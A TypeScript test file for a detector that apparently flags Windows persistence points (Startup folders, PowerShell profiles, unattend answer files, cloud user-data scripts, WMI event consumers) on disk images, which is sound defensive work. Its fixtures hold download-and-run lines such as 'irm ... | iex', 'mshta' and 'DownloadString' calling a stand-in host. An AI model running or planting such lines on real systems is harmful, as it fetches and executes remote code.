import assert from 'node:assert/strict';
import { test } from 'node:test';
import { testCases } from '../../../testing/detector-cases.ts';
import { inspectFixture } from '../../../testing/fixture.ts';
import { startupFiles } from './index.ts';

const START = 'ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp';
const OBJECTS = 'Windows/System32/wbem/Repository/OBJECTS.DATA';
const UNATTEND = 'Windows/Panther/unattend.xml';

const answers = (inner: string): string =>
  `<?xml version="1.0"?><unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="oobeSystem"><component name="x">${inner}</component></settings></unattend>`;
const consumer = (name: string, command: string): string =>
  `${'x'.repeat(100)}${name}\0\0${command}\0\0\u0001named\0${'A\0'.repeat(32)}`;

testCases(startupFiles, [
  {
    name: 'a clean server',
    kind: 'disk',
    files: {
      [`${START}/desktop.ini`]: '[.ShellClassInfo]',
      [UNATTEND]: answers(
        '<UserAccounts><AdministratorPassword><Value>*SENSITIVE*DATA*DELETED*</Value><PlainText>true</PlainText></AdministratorPassword></UserAccounts>',
      ),
      'ProgramData/Amazon/EC2Launch/sysprep/unattend.xml': answers(
        '<UserAccounts><AdministratorPassword><Value>CREATEATRUNTIMEPLACEHOLDER</Value></AdministratorPassword></UserAccounts>' +
          '<RunSynchronous><RunSynchronousCommand><Path>"C:\\Program Files\\Amazon\\EC2Launch\\EC2Launch.exe" internal randomize-password</Path></RunSynchronousCommand></RunSynchronous>',
      ),
      [OBJECTS]: 'CommandLineEventConsumer\0class ActiveScriptEventConsumer\0class',
      'Windows/Setup/Scripts/SetupComplete.cmd': '',
    },
    expected: [],
  },
  {
    name: 'files in Startup folders',
    files: {
      [`${START}/x.bat`]: '@echo off\r\npowershell irm http://x.invalid/a | iex\r\n',
      'Users/a/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.lnk': Buffer.from(
        'L\0\0\0C:\\Program Files\\x\\x.exe\0',
      ),
    },
    expected: [
      `block windows/startup-file ${START}/x.bat`,
      'review windows/startup-file Users/a/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.lnk',
    ],
  },
  {
    name: 'scripts after set-up, and profiles',
    files: {
      'Windows/Setup/Scripts/SetupComplete.cmd': 'netsh advfirewall set allprofiles state on\r\n',
      'Windows/System32/WindowsPowerShell/v1.0/profile.ps1': '# nothing\n& "$env:TEMP\\x.exe"\n',
      'Users/a/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1': '# nothing yet\n',
    },
    expected: [
      'block windows/startup-file Windows/System32/WindowsPowerShell/v1.0/profile.ps1',
      'review windows/startup-file Windows/Setup/Scripts/SetupComplete.cmd',
    ],
  },
  {
    name: 'answers with a password and commands',
    files: {
      [UNATTEND]: answers(
        '<AutoLogon><Password><Value>Hunter2!</Value></Password></AutoLogon>' +
          '<FirstLogonCommands><SynchronousCommand><CommandLine>cmd /c mshta http://x.invalid/a</CommandLine></SynchronousCommand>' +
          '<SynchronousCommand><CommandLine>cmd /c echo x</CommandLine></SynchronousCommand></FirstLogonCommands>',
      ),
      'Autounattend.xml': Buffer.from(
        `\ufeff${answers('<UserAccounts><AdministratorPassword><Value>Hunter2!</Value></AdministratorPassword></UserAccounts>')}`,
        'utf16le',
      ),
    },
    expected: [
      'review windows/answer-file Autounattend.xml',
      `block windows/answer-file ${UNATTEND}`,
      `review windows/answer-file ${UNATTEND}`,
      `review windows/answer-file ${UNATTEND}`,
    ],
  },
  {
    name: 'user data of clouds',
    files: {
      'ProgramData/Amazon/EC2-Windows/Launch/Scripts/UserScript.ps1': 'Write-Host x\n',
      'Program Files/Cloudbase Solutions/Cloudbase-Init/LocalScripts/x.ps1':
        'IEX (New-Object Net.WebClient).DownloadString("http://x.invalid/a")\n',
    },
    expected: [
      'block windows/user-data Program Files/Cloudbase Solutions/Cloudbase-Init/LocalScripts/x.ps1',
      'review windows/user-data ProgramData/Amazon/EC2-Windows/Launch/Scripts/UserScript.ps1',
    ],
  },
  {
    name: 'consumers of WMI events',
    files: {
      [OBJECTS]:
        consumer('CommandLineEventConsumer', 'C:\\Program Files\\x\\x.exe -a') +
        consumer(
          'ActiveScriptEventConsumer',
          'VBScript\0\0CreateObject("x").Run "C:\\Users\\Public\\x.exe"',
        ) +
        consumer('CommandLineEventConsumer', 'cscript KernCap.vbs'),
    },
    expected: ['block', 'note', 'review'].map((tier) => `${tier} windows/wmi-consumer ${OBJECTS}`),
  },
]);

test('passwords are not in the evidence', () => {
  const data = answers('<AutoLogon><Password><Value>Hunter2!</Value></Password></AutoLogon>');
  const { findings } = inspectFixture({ layers: [{ [UNATTEND]: data }], catalogers: [] }, [startupFiles]);
  assert.equal(findings[0]?.evidence, 'AutoLogon/Password/Value: *** (8 characters)');
});
